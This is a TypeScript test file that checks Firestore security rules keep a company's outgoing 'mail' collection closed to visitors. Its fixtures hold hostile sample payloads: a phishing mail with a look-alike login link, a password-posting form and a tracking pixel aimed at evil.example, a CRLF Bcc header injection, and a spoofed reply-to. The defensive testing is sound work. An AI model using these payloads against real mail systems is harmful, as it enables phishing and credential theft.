// @vitest-environment node
/**
 * Cloud Firestore security rules (firestore.rules) against a real Firestore emulator.
 *
 * Run with `npm run test:rules`: scripts/test-emulators.ts starts firebase-tools' emulators with
 * Java 21, otherwise the Cloud SDK's standalone Firestore emulator, and sets FIRESTORE_EMULATOR_HOST.
 * Decision records: docs/decisions/0005-security-rules.md, 0021-newsletter-one-per-address.md,
 * 0056-only-the-company-writes-its-mail.md.
 */
import { assertFails } from '@firebase/rules-unit-testing';
import {
  collection,
  collectionGroup,
  deleteDoc,
  doc,
  getDoc,
  getDocs,
  query,
  serverTimestamp,
  setDoc,
  Timestamp,
  updateDoc,
  where,
  writeBatch,
} from 'firebase/firestore';
import { firestoreRulesEnvironment, type Data } from './firestore-rules-environment';
import { beforeEach, describe, expect, it } from 'vitest';
import { company } from '../../src/content/company';
import { subscriptionId } from '../../src/features/newsletter/subscription-id';
import { newDocumentId } from '../../src/lib/ids';

/** A fresh 20-character id of the shape the client SDK generates. */
const autoId = newDocumentId;

const { visitorDb, seed } = firestoreRulesEnvironment();

function validMail(): Data {
  return {
    to: [company.onboardingEmail],
    replyTo: 'jane.applicant@example.org',
    message: {
      subject: 'New Job Application — Jane Applicant',
      text: 'Name: Jane Applicant\nEmail: jane.applicant@example.org\nPhone: (555) 010-0199',
      html: '<p><strong>Name:</strong> Jane Applicant</p>',
    },
    createdAt: serverTimestamp(),
  };
}

/** `base` with `message` replaced by `message` merged with `changes`. */
function withMessage(base: Data, changes: Data): Data {
  return { ...base, message: { ...(base.message as Data), ...changes } };
}

function createIn(collectionName: string, data: Data, id: string = autoId()): Promise<void> {
  return setDoc(doc(visitorDb(), collectionName, id), data);
}

describe('mail (what the Trigger Email extension sends): closed to every client', () => {
  // What a stranger with curl and the site's public config tried before this collection was closed
  // (docs/decisions/0056-only-the-company-writes-its-mail.md): each would have gone out from the
  // company's own authenticated address to the company's own inbox.
  it.each([
    [
      'a phishing mail about the mailbox password, with a look-alike login link',
      withMessage(validMail(), {
        subject: 'ACTION REQUIRED: onboarding mailbox password expires today',
        html: '<p>Keep your access: <a href="https://roadready-login.example.net">sign in</a></p>',
      }),
    ],
    [
      'a form that posts a password',
      withMessage(validMail(), {
        html: '<form action="https://evil.example" method="post"><input type="password" name="p"><button>Keep</button></form>',
      }),
    ],
    [
      'a tracking pixel',
      withMessage(validMail(), {
        html: '<img src="https://evil.example/pixel.gif" width="1" height="1">',
      }),
    ],
    [
      'a forged verdict',
      withMessage(validMail(), { html: '<p>✓ Meets every stated requirement</p>' }),
    ],
    [
      'a forged update of a real applicant with new bank details',
      withMessage(validMail(), {
        subject: 'Updated Job Application — Jane Applicant: new bank details inside',
      }),
    ],
    [
      'a subject with a line break',
      withMessage(validMail(), { subject: 'Hello\r\nBcc: all@example.org' }),
    ],
    ['a 150,000-character html body', withMessage(validMail(), { html: 'h'.repeat(150_000) })],
    [
      'a reply-to with a display name',
      { ...validMail(), replyTo: '"RoadReady-IT-Helpdesk"<attacker@example.net>' },
    ],
    ['a mail to someone else', { ...validMail(), to: ['someone.else@example.net'] }],
    ['even a well-formed application mail, exactly as the product writes it', validMail()],
  ])('refuses %s', async (_label, data) => {
    await assertFails(createIn('mail', data));
  });

  it('refuses a flood: none of 50 mails created at once, nor a batch of them, is accepted', async () => {
    const results = await Promise.allSettled(
      Array.from({ length: 50 }, () => createIn('mail', validMail())),
    );
    expect(results.every((result) => result.status === 'rejected')).toBe(true);
    const db = visitorDb();
    const batch = writeBatch(db);
    for (let index = 0; index < 20; index += 1) batch.set(doc(db, 'mail', autoId()), validMail());
    await assertFails(batch.commit());
  });

  describe('an existing mail document', () => {
    const id = 'ExistingMail00000001';

    beforeEach(async () => {
      await seed('mail', id, { ...validMail(), delivery: { state: 'SUCCESS' } });
    });

    it('cannot be read (get)', async () => {
      await assertFails(getDoc(doc(visitorDb(), 'mail', id)));
    });

    it('cannot be listed', async () => {
      await assertFails(getDocs(collection(visitorDb(), 'mail')));
    });

    it('cannot be found by a query on its recipient', async () => {
      const byRecipient = query(
        collection(visitorDb(), 'mail'),
        where('to', 'array-contains', company.onboardingEmail),
      );
      await assertFails(getDocs(byRecipient));
    });

    it('cannot be found by a collection group query over every `mail` collection', async () => {
      await assertFails(getDocs(collectionGroup(visitorDb(), 'mail')));
    });

    it('cannot be updated', async () => {
      await assertFails(updateDoc(doc(visitorDb(), 'mail', id), { replyTo: 'other@example.org' }));
    });

    it('cannot be overwritten, not even with a well-formed mail', async () => {
      await assertFails(createIn('mail', validMail(), id));
    });

    it('cannot be deleted', async () => {
      await assertFails(deleteDoc(doc(visitorDb(), 'mail', id)));
    });
  });

  // The delivery fields belong to the Trigger Email extension and the delivery watcher (functions/),
  // which write with admin rights: a visitor must not re-send, hide or expire an application.
  describe('a failed mail document, as the extension and the delivery watcher leave it', () => {
    const id = 'FailedMail0000000001';

    beforeEach(async () => {
      await seed('mail', id, {
        ...validMail(),
        createdAt: Timestamp.now(),
        delivery: { state: 'ERROR', error: 'Error: quota exceeded', attempts: 1 },
        retry: { count: 0, nextAttemptAt: Timestamp.fromMillis(Date.now() + 300_000) },
      });
    });

    it('cannot be sent again by a visitor setting its delivery state to RETRY', async () => {
      await assertFails(updateDoc(doc(visitorDb(), 'mail', id), { 'delivery.state': 'RETRY' }));
    });

    it('cannot be marked delivered by a visitor', async () => {
      await assertFails(updateDoc(doc(visitorDb(), 'mail', id), { 'delivery.state': 'SUCCESS' }));
    });

    it('cannot have its retry moved or its attempts reset by a visitor', async () => {
      await assertFails(
        updateDoc(doc(visitorDb(), 'mail', id), { 'retry.nextAttemptAt': Timestamp.now() }),
      );
      await assertFails(updateDoc(doc(visitorDb(), 'mail', id), { 'retry.count': 0 }));
    });

    it('cannot be given an expiry (for the TTL policy to delete it) by a visitor', async () => {
      await assertFails(updateDoc(doc(visitorDb(), 'mail', id), { expireAt: Timestamp.now() }));
      await assertFails(
        updateDoc(doc(visitorDb(), 'mail', id), { 'delivery.expireAt': Timestamp.now() }),
      );
    });
  });
});

describe('every other collection', () => {
  it.each(['users', 'mailTemplates', 'mail_outbox', 'applicationHours', 'applicantConfirmations'])(
    'refuses a write to `%s`, even of a well-formed mail document',
    async (collectionName) => {
      await assertFails(createIn(collectionName, validMail()));
    },
  );

  it('refuses a well-formed mail in a `mail` subcollection of another collection', async () => {
    const nested = doc(visitorDb(), 'applications', autoId(), 'mail', autoId());
    await assertFails(setDoc(nested, validMail()));
  });

  it('refuses a write to a subcollection under a newsletter subscription', async () => {
    const parent = await subscriptionId('reader@example.org');
    const nested = doc(visitorDb(), 'newsletterSubscriptions', parent, 'notes', autoId());
    await assertFails(setDoc(nested, { note: 'hello' }));
  });

  it('refuses a write to a subcollection under mail', async () => {
    const parent = autoId();
    await assertFails(setDoc(doc(visitorDb(), 'mail', parent, 'replies', autoId()), validMail()));
  });

  it('refuses reading a document of another collection', async () => {
    await seed('settings', 'site', { maintenance: false });
    await assertFails(getDoc(doc(visitorDb(), 'settings', 'site')));
  });
});
